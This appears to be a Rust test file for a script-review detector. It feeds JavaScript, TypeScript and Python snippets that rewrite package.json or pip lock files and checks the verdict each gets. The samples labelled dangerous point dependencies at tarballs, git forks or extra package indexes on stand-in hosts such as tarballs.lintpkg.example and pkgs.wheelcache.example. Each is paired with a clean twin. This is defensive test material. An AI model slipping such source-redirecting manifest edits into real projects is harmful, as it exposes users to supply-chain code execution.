//! Package sources the walkers lost on the way to a manifest (issue 17): a dependency set to
//! a tarball or git source of an unknown host in an object literal merged into the manifest,
//! merged by `Object.assign` under a computed name, or taken from a `Map` of forks; an index
//! of an enum's member given to pip-compile; a property adding an index to a
//! `requirements.lock`. Each row has its twin: the same shape with the public registry, a
//! version range or a local mirror stays clean.

use terraphim_script_review::{Language, Verdict};

use crate::rows;

use Language::{JavaScript as Js, TypeScript as Ts};
use Verdict::{Clean, Dangerous};

/// An object literal (typed with `satisfies`, spread into the manifest) whose dev dependency is
/// a tarball of an unknown host, then the manifest written as JSON: the next install runs that
/// host's code. The registry's own tarball or a version range are not that.
#[test]
fn dependencies_of_an_object_literal_merged_into_a_manifest_are_package_sources() {
    let ts = |spec: &str| {
        format!(
            "import {{ readFileSync, writeFileSync }} from 'node:fs';\n\ntype Pkg = {{ devDependencies?: Record<string, string> }};\n\nconst extra = {{\n  devDependencies: {{\n    eslint: '^9.0.0',\n    '@team/lint-rules': '{spec}',\n  }},\n}} satisfies Pkg;\n\nfunction merged(pkg: Pkg): Pkg {{\n  return {{ ...pkg, devDependencies: {{ ...(pkg.devDependencies ?? {{}}), ...extra.devDependencies }} }};\n}}\n\nconst pkg = JSON.parse(readFileSync('package.json', 'utf8')) as Pkg;\nwriteFileSync('package.json', JSON.stringify(merged(pkg), null, 2) + '\\n');\n"
        )
    };
    let js = |spec: &str| {
        format!(
            "const fs = require('fs');\nconst ADD = {{ dependencies: {{ 'left-pad': '{spec}' }} }};\nconst pkg = JSON.parse(fs.readFileSync('package.json', 'utf8'));\nconst out = {{ ...pkg, dependencies: {{ ...pkg.dependencies, ...ADD.dependencies }} }};\nfs.writeFileSync('package.json', JSON.stringify(out, null, 2));\n"
        )
    };
    rows(&[
        (
            Ts,
            ts("https://tarballs.lintpkg.example/lint-rules-3.1.0.tgz"),
            Dangerous,
            "config-tampering",
        ),
        (
            Ts,
            ts("https://registry.npmjs.org/@team/lint-rules/-/lint-rules-3.1.0.tgz"),
            Clean,
            "",
        ),
        (Ts, ts("^3.1.0"), Clean, ""),
        (
            Js,
            js("git+https://code.padforks.example/left-pad.git#patched"),
            Dangerous,
            "config-tampering",
        ),
        (Js, js("1.3.0"), Clean, ""),
    ]);
}

/// `Object.assign(pkg[section], { [name]: tarball(name) })`: members merged under names the
/// walk computes are still the package's source; a version merged the same way is a pin.
#[test]
fn dependencies_merged_by_object_assign_are_package_sources() {
    let js = |spec: &str| {
        format!(
            "const fs = require('fs');\nconst MIRROR = 'https://bin.nativepkg.example/npm';\nconst NATIVE = ['bcrypt', 'sqlite3'];\nconst spec = (name, v) => {spec};\nconst pkg = JSON.parse(fs.readFileSync('package.json', 'utf8'));\nfor (const name of NATIVE) {{\n  for (const key of ['dependencies', 'optionalDependencies']) {{\n    if (pkg[key] && pkg[key][name]) {{\n      Object.assign(pkg[key], {{ [name]: spec(name, pkg[key][name].replace(/^[~^]/, '')) }});\n    }}\n  }}\n}}\nfs.writeFileSync('package.json', JSON.stringify(pkg, null, 2));\n"
        )
    };
    let section = |spec: &str| {
        format!(
            "const fs = require('fs');\nconst pkg = JSON.parse(fs.readFileSync('package.json', 'utf8'));\nObject.assign(pkg.devDependencies, {{ prettier: '{spec}' }});\nfs.writeFileSync('package.json', JSON.stringify(pkg, null, 2));\n"
        )
    };
    rows(&[
        (
            Js,
            js("`${MIRROR}/${name}/-/${name}-${v}.tgz`"),
            Dangerous,
            "config-tampering",
        ),
        (Js, js("`~${v}`"), Clean, ""),
        (
            Js,
            section("https://cdn.fmtpkgs.example/prettier/prettier-3.3.3.tar.gz"),
            Dangerous,
            "config-tampering",
        ),
        (Js, section("3.3.3"), Clean, ""),
    ]);
}

/// A `Map` of forks whose sources are git URLs of an unknown host, each set into the section
/// the loop reads (`deps[name] = fork.source`): the install clones and builds them. A version
/// range set the same way is a pin.
#[test]
fn git_sources_of_a_map_of_forks_are_package_sources() {
    let ts = |source: &str| {
        format!(
            "import fs from 'node:fs';\n\nconst SOURCE = '{source}';\nconst forks = new Map<string, {{ source: string }}>([\n  ['yaml', {{ source: SOURCE }}],\n]);\n\nconst pkg = JSON.parse(fs.readFileSync('package.json', 'utf8'));\nfor (const section of ['dependencies', 'devDependencies'] as const) {{\n  const deps = pkg[section];\n  if (!deps) continue;\n  for (const [name, fork] of forks) {{\n    if (name in deps) deps[name] = fork.source;\n  }}\n}}\nfs.writeFileSync('package.json', JSON.stringify(pkg, null, 2) + '\\n');\n"
        )
    };
    rows(&[
        (
            Ts,
            ts("git+https://git.yamlforks.example/forks/yaml.git#fix-anchors"),
            Dangerous,
            "config-tampering",
        ),
        (Ts, ts("^2.4.1"), Clean, ""),
    ]);
}

/// A resolve run with an index taken from an enum's members (`for m in Mirror: ...
/// m.value`): pip-compile builds that index's source packages and writes it into the lock it
/// emits. A mirror on this machine is no foreign source.
#[test]
fn a_resolve_from_an_enum_members_index_is_a_package_source() {
    let py = |extra: &str| {
        format!(
            "import enum\nimport subprocess\n\n\nclass Mirror(enum.Enum):\n    MAIN = \"https://pypi.org/simple\"\n    EXTRA = \"{extra}\"\n\n\nargv = [\"pip-compile\", \"--index-url\", Mirror.MAIN.value]\nfor m in Mirror:\n    if m is not Mirror.MAIN:\n        argv += [\"--extra-index-url\", m.value]\nargv += [\"--emit-index-url\", \"--output-file\", \"requirements.txt\", \"requirements.in\"]\nsubprocess.run(argv, check=True)\n"
        )
    };
    rows(&[
        (
            Language::Python,
            py("https://wheels.cachepkgs.example/simple"),
            Dangerous,
            "config-tampering",
        ),
        (
            Language::Python,
            py("http://127.0.0.1:3141/simple"),
            Clean,
            "",
        ),
    ]);
}

/// A pinned `requirements.lock` written from a property that adds an extra index and trusts
/// its host: `pip install -r` of it fetches from there (`requirements.lock` and
/// `requirements.in` are build inputs as `requirements.txt` is). The public index in the same
/// lines is not that.
#[test]
fn a_requirements_lock_given_a_foreign_index_by_a_property() {
    let py = |host: &str, write: &str| {
        format!(
            "from pathlib import Path\n\nLOCK = Path(__file__).resolve().parent / \"requirements.lock\"\n\n\nclass Lock:\n    base = (\"# pinned\", \"--index-url https://pypi.org/simple\")\n    host = \"{host}\"\n\n    def __init__(self, pins):\n        self.pins = pins\n\n    @property\n    def head(self):\n        out = list(self.base)\n        out.append(f\"--extra-index-url https://{{self.host}}/simple\")\n        out.append(f\"--trusted-host {{self.host}}\")\n        return out\n\n    def text(self):\n        body = [f\"{{k}}=={{v}}\" for k, v in sorted(self.pins.items())]\n        return \"\\n\".join(self.head + body) + \"\\n\"\n\n\n{write}\n"
        )
    };
    let direct = "LOCK.write_text(Lock({\"attrs\": \"23.2.0\"}).text())";
    rows(&[
        (
            Language::Python,
            py("pkgs.wheelcache.example", direct),
            Dangerous,
            "config-tampering",
        ),
        // Twin: the public index. A build manifest rewritten with text built at run time
        // stays what it was for a `requirements.txt` (suspicious), not a foreign source.
        (
            Language::Python,
            py("pypi.org", direct),
            Verdict::Suspicious,
            "source-poisoning",
        ),
    ]);
}
